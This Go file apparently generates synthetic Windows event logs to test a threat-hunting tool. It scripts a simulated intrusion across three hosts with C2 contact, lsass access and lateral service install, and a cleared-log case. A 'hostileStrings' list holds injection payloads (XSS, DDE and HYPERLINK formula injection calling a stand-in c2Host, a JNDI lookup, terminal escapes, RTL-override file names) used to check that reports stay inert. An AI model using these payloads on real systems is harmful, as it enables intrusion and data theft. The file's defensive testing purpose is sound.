package main

import (
	"strings"
	"time"

	"hunt/evtx/evtxtest"
	"hunt/samples"
)

// manyHosts is one incident on three machines: the link on a workstation, a
// service on a server reached from it, and a workstation that nothing happened to.
func manyHosts(t *tree) error {
	p := t.plan("multi-host", "A script from INetCache under Chrome on WS-PUR-09; with the user's password the "+
		"intruder logs on to SRV-FILE-01 and installs a service; WS-PUR-10 is clean.")
	m, shell := workstation("WS-PUR-09", "h.jansen", "10.20.11.9", 1240, day(9, 10, 0))
	chrome := m.browser(shell, chromeEx, "", day(8, 13, 20))
	at := day(8, 33, 51)
	m.visit(chrome, at.Add(-7*time.Second), lureHost, lureIP)
	js := m.user.home() + `AppData\Local\Microsoft\Windows\INetCache\IE\9K2QX07T\Statement_0326.js`
	m.create(chrome, at, js)
	ws := m.run(chrome, prog("wscript.exe"), `"C:\Windows\System32\WScript.exe" "`+js+`" `, m.user,
		at.Add(2*time.Second))
	resolved := m.resolve(ws.process, at.Add(3*time.Second), c2Host, c2IP)
	connected := m.connect(ws.process, at.Add(3*time.Second+m.ms(40, 90)), c2IP, "-", 443)
	exe := m.user.temp() + "stmt0326.exe"
	dropped := m.create(ws.process, at.Add(5*time.Second), exe)
	payload := m.run(ws.process, unknown(exe), `"`+exe+`"`, m.user, at.Add(6*time.Second)).process
	m.visit(payload, at.Add(8*time.Second), c2Host, c2IP)
	m.access(payload, m.processes["lsass.exe"], at.Add(40*time.Second), 0x1410)
	m.run(payload, prog("whoami.exe"), "whoami /groups", m.user, at.Add(55*time.Second))
	lateral := day(8, 52, 14)
	m.connect(payload, lateral, "10.20.0.30", "SRV-FILE-01", 445)

	s := newHost("SRV-FILE-01", "h.jansen", "10.20.0.30", 1240, day(5, 1, 40))
	s.start(day(6, 0, 9))
	remote := *s.user
	remote.logonID, remote.session, remote.integrity, remote.label = 0x1f4c02a, 0, "High", "S-1-16-12288"
	s.logon(logon{account: &remote, at: lateral.Add(m.ms(40, 90)), kind: 3, workstation: m.short,
		ip: m.ip, privileged: true})
	system := &process{image: image{path: "System"}, pid: 4, guid: s.guid(s.boot), user: s.system, start: s.boot}
	s.create(system, lateral.Add(400*time.Millisecond), `C:\Windows\updsvc.exe`)
	s.service(lateral.Add(900*time.Millisecond), "UpdSvc", `%SystemRoot%\updsvc.exe`)
	svc := s.run(s.processes["services.exe"], unknown(`C:\Windows\updsvc.exe`), `C:\Windows\updsvc.exe`,
		s.system, lateral.Add(1100*time.Millisecond))
	s.run(svc.process, prog("cmd.exe"), sys32+"cmd.exe /c whoami", s.system, lateral.Add(1500*time.Millisecond))
	s.logoff(&remote, lateral.Add(20*time.Second), 3)

	c, other := workstation("WS-PUR-10", "b.costa", "10.20.11.10", 1241, day(8, 35, 0))
	edge := c.browser(other, edgeEx, "", day(8, 20, 45))
	c.visit(edge, day(8, 34, 2), lureHost, lureIP)

	logs := [][]string{p.channels, {chSysmon, chSecurity, chSystem}, {chSysmon}}
	for i, h := range []*host{m, s, c} {
		p.channels = logs[i]
		if err := p.write(nil, h); err != nil {
			return err
		}
	}
	p.match(ruleContent, m, samples.Finding, "wscript under Chrome, with a script in INetCache on its command line",
		child(ws))
	p.match(ruleNetwork, m, samples.Finding, "that wscript resolves a name and connects", child(ws),
		one("name resolved or connection opened", resolved, connected))
	p.match(ruleLiteral, m, samples.Finding, "wscript under Chrome, then an executable in Temp 3 s later",
		child(ws), one("stmt0326.exe written to Temp", dropped))
	p.done()
	return nil
}

// cleared is a machine on which somebody cleared the Security and System logs
// after the link was opened: 1102 and 104 are the first records left.
func cleared(t *tree) error {
	p := t.plan("cleared", "Scenario 1, after which the Security and System logs were cleared. Sysmon still shows "+
		"the link; 4688 of that time is gone, and coverage must say so.")
	p.channels = []string{chSysmon, chSecurity, chSystem}
	v, _ := linkVictim("WS-FIN-19", "c.weber", "10.20.7.44", 1133)
	wiped := day(8, 31, 0)
	var left []*event
	for _, e := range v.events {
		if e.Time.After(wiped) || (e.Channel != chSecurity && e.Channel != chSystem) {
			left = append(left, e)
		}
	}
	gone := len(v.events) - len(left)
	v.events = left
	v.cleared(wiped, v.user, chSecurity)
	v.cleared(wiped.Add(800*time.Millisecond), v.user, chSystem)
	// Clearing a log does not start its numbers again.
	v.firstID[chSecurity] += uint64(gone)
	v.firstID[chSystem] += 3
	if err := p.write(nil, v.host); err != nil {
		return err
	}
	v.expect(p)
	p.done()
	return nil
}

// hostileStrings are file names and arguments that attack what shows them: HTML,
// spreadsheets, terminals, readers of text, readers of JSON and CSV.
var hostileStrings = []struct{ what, text string }{
	{"HTML that ends a script and runs one", `</script><img src=x onerror=alert(document.domain)>.hta`},
	{"HTML in an attribute", `" onmouseover="alert(1)" x="`},
	{"a formula with DDE", `=cmd|'/C calc.exe'!A0`},
	{"a formula behind a tab", "\t=HYPERLINK(\"https://" + c2Host + "/?\"&A1,\"Invoice\")"},
	{"formulas by +, - and @", `+1-2@SUM(1+1)*cmd|'/C calc'!A0`},
	{"right-to-left override", "Invoice_\u202efdp.hta"},
	{"direction isolates, zero-width characters and a Cyrillic a", "p\u2066\u0430y\u200b\u2069ment\ufeff.hta"},
	{"terminal escapes: title, clear screen, colours, hyperlink",
		"\x1b]0;owned\x07\x1b[2J\x1b[1;31mfailed\x1b[0m\x1b]8;;https://" + c2Host + "\x1b\\x\x1b]8;;\x1b\\"},
	{"control characters", "a\x01b\x02c\x08d\x0be\x0cf\x1fg\x7fh\u0085i\u2028j"},
	{"line breaks in the middle", "first\r\nsecond\nthird\rfourth"},
	{"CSV and JSON syntax", `","x":{"y":[1,2]},"z":"\u0000`},
	{"an XML entity and a CDATA end", `&xxe; ]]> <!--#exec cmd="x"--> &#x41;`},
	{"a template expression", `{{constructor.constructor('alert(1)')()}} ${jndi:ldap://` + c2Host + `/a}`},
	{"a script URL", `javascript:alert(1)//data:text/html;base64,PHNjcmlwdD4=`},
	{"format verbs and percent signs", `%s%n%d%%20%TEMP%%4`},
	{"an emoji, a flag and stacked accents",
		"\U0001F4B8\U0001F1F3\U0001F1F1e\u0301\u0302\u0303\u0304\u0305\u0306\u0307"},
}

// hostile puts strings that attack the reader where a report shows them: into
// the command lines of findings, user and file names, script blocks and URLs.
func hostile(t *tree) error {
	p := t.plan("hostile", "Strings that attack HTML, spreadsheets, terminals and readers, in command lines that "+
		"the rules find; the longest command lines that a record can hold. Every one must be inert in every "+
		"output and still readable.")
	m := newHost("WS-LAB-66", "<b>eve</b>", "10.20.66.6", 1266, day(7, 52, 11))
	shell := m.start(day(8, 3, 26))
	chrome := m.browser(shell, chromeEx, "https://"+lureHost+"/?q=<script>alert(1)</script>", day(8, 12, 0))
	var found []started
	at := day(8, 30, 0)
	const apart = 2 * time.Hour // what comes within an hour is one finding
	for i, s := range hostileStrings {
		at := at.Add(time.Duration(i) * apart)
		path := m.user.home() + `Downloads\` + s.text
		m.stream(chrome, at, path+":Zone.Identifier", zone("https://"+lureHost+"/"+s.text,
			"https://"+lureHost+"/"+s.text))
		found = append(found, m.run(chrome, prog("mshta.exe"),
			`"C:\Windows\System32\mshta.exe" "`+path+`" `, m.user, at.Add(2*time.Second)))
		m.powershell(found[i].process, at.Add(3*time.Second), "Write-Output '"+s.text+"'", s.text)
		m.resolve(chrome, at.Add(4*time.Second), s.text, c2IP)
	}
	// Windows stops command lines at 32,767 characters, and a record with its
	// templates must fit one chunk of 64 KiB, so that is the end for UTF-16. A source
	// that stores single bytes gets 40,000 characters into a record.
	last := at.Add(time.Duration(len(hostileStrings)) * apart)
	long := m.run(chrome, prog("wscript.exe"),
		`"C:\Windows\System32\WScript.exe" "`+m.user.home()+`Downloads\long.js" `+filler(30_000), m.user, last)
	m.remove(long.security) // in the Security log the record is cut short by the same limit
	wide := m.run(chrome, prog("wscript.exe"), "", m.user, last.Add(apart))
	m.remove(wide.security)
	command := `"C:\Windows\System32\WScript.exe" "C:\Users\Public\Downloads\wide.js" `
	command += filler(40_000 - len(command))
	for i, pair := range wide.sysmon.Data {
		if pair.Name == "CommandLine" {
			wide.sysmon.Data[i].Value = evtxtest.Ansi(command)
		}
	}
	if err := p.write(nil, m); err != nil {
		return err
	}
	for i, s := range found {
		p.match(ruleContent, m, samples.Finding, hostileStrings[i].what, child(s))
	}
	p.match(ruleContent, m, samples.Finding, "a command line of 30,000 characters",
		one("wscript.exe started by chrome.exe", long.sysmon))
	p.match(ruleContent, m, samples.Finding, "a command line of 40,000 characters, stored as single bytes",
		one("wscript.exe started by chrome.exe", wide.sysmon))
	p.done()
	return nil
}

// filler returns n characters of arguments.
func filler(n int) string {
	const arg = "/argument-that-goes-on "
	return strings.Repeat(arg, n/len(arg)+1)[:n-1] + "$"
}

// remove takes an event back.
func (m *host) remove(e *event) {
	for i, x := range m.events {
		if x == e {
			m.events = append(m.events[:i], m.events[i+1:]...)
			return
		}
	}
}
